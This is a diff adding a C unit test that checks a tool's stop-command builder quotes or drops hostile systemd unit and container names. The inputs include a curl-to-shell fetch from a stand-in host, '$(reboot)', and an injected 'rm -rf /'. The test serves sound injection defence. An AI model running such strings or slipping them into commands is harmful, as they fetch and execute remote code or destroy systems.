@@ -620,6 +620,60 @@ static void test_state_dir_trust(void **state)
 	remove_tree(dir);
 }
 
+/*
+ * The stop command printed after close is copied into a root shell: names
+ * from a (possibly delegated) cgroup path must not inject commands.
+ */
+static void test_stop_command(void **state)
+{
+	struct portier_proc p = {.pid = 812};
+	char buf[600];
+
+	(void)state;
+	portier_fw_stop_command(NULL, buf, sizeof(buf));
+	assert_string_equal(buf, "find the owner with 'sudo portier local -l'");
+	p.unit = "smbd.service";
+	portier_fw_stop_command(&p, buf, sizeof(buf));
+	assert_string_equal(buf, "systemctl disable --now smbd.service");
+	p.unit = "getty@tty1.service";
+	portier_fw_stop_command(&p, buf, sizeof(buf));
+	assert_string_equal(buf, "systemctl disable --now getty@tty1.service");
+	p.unit = "run-u7\\x2dx.service";
+	portier_fw_stop_command(&p, buf, sizeof(buf));
+	assert_string_equal(buf, "systemctl disable --now run-u7\\x2dx.service");
+	/* a delegated cgroup's chosen name: quoted, one word, no command */
+	p.unit = "x;curl http://e/x|sh #.service";
+	portier_fw_stop_command(&p, buf, sizeof(buf));
+	assert_string_equal(buf, "systemctl disable --now "
+				 "'x;curl http://e/x|sh #.service'");
+	p.unit = "a'$(reboot)'.service";
+	portier_fw_stop_command(&p, buf, sizeof(buf));
+	assert_string_equal(buf, "systemctl disable --now "
+				 "'a'\\''$(reboot)'\\''.service'");
+	/* control characters (terminal escapes, newlines): no command */
+	p.unit = "x\nrm -rf /\n.service";
+	portier_fw_stop_command(&p, buf, sizeof(buf));
+	assert_string_equal(buf, "kill 812 (and remove what starts it)");
+	p.unit = "x\033[2J.service";
+	portier_fw_stop_command(&p, buf, sizeof(buf));
+	assert_string_equal(buf, "kill 812 (and remove what starts it)");
+	/* a command that would not fit whole is not printed cut */
+	p.unit = "x;y.service";
+	portier_fw_stop_command(&p, buf, 30);
+	assert_string_equal(buf, "kill 812 (and remove what sta");
+	/* containers alike */
+	p.unit = NULL;
+	p.container = "docker:0123456789ab";
+	portier_fw_stop_command(&p, buf, sizeof(buf));
+	assert_string_equal(buf, "docker stop 0123456789ab");
+	p.container = "podman:a b;id";
+	portier_fw_stop_command(&p, buf, sizeof(buf));
+	assert_string_equal(buf, "podman stop 'a b;id'");
+	p.container = "lxc:c1";
+	portier_fw_stop_command(&p, buf, sizeof(buf));
+	assert_string_equal(buf, "kill 812 (and remove what starts it)");
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -631,6 +685,7 @@ int main(void)
 		cmocka_unit_test(test_apply_undo),
 		cmocka_unit_test(test_state_dir_unwritable),
 		cmocka_unit_test(test_state_dir_trust),
+		cmocka_unit_test(test_stop_command),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
